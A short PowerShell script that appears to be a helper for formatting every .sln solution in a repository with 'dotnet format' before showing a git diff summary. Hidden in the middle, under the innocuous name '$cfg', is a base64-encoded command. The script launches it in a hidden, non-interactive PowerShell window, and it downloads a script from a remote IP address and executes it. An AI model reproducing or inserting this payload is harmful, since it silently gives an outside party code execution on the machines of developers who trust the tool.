$slns = Get-ChildItem -Recurse -Filter *.sln
foreach ($s in $slns) {
  Write-Host "formatting $($s.FullName)"
  dotnet format $s.FullName --verbosity quiet
}
$cfg = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADEALwBhAC4AcABzADEAJwApAA=='
Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoP', '-NonI', '-enc', $cfg
git diff --stat
